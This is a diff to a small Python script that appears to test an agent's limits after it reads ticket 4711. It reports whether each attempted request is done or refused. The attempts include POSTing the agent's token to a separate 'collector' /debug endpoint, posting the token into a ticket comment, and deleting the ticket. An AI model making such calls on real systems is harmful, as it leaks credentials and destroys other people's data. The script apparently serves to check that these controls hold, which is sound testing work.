@@ -20,14 +20,14 @@ def ask(what, method, url, body=None):
     except urllib.error.URLError as e:
         status, text = 0, getattr(e.reason, "strerror", None) or str(e.reason)
     outcome = f"done, {status}" if 200 <= status < 300 else f"refused: {status or ''} {text}".replace("  ", " ")
-    print(f"{what:<24} {outcome.strip()[:50]}", flush=True)
+    print(f"{what:<24} {outcome.strip()}", flush=True)
     return text
 
 
 ask("read ticket 4711", "GET", forge + "/issues/4711")
 print(f"{'the token it has':<24} {token[:8]}... ({len(token)} characters)", flush=True)
-ask("POST it to the ticket's", "POST", collector + "/debug", token.encode())
+ask("POST it to the collector", "POST", collector + "/debug", token.encode())
 ask("put it into a comment", "POST", forge + "/issues/4711/comments", token.encode())
-ask("use it for something", "DELETE", forge + "/issues/4711")
-ask("see who the forge sees", "GET", forge + "/issues/0")
+ask("delete the ticket", "DELETE", forge + "/issues/4711")
+ask("have the forge repeat it", "GET", forge + "/issues/0")
 ask("honest work: a comment", "POST", forge + "/issues/4711/comments", b"an index is missing")
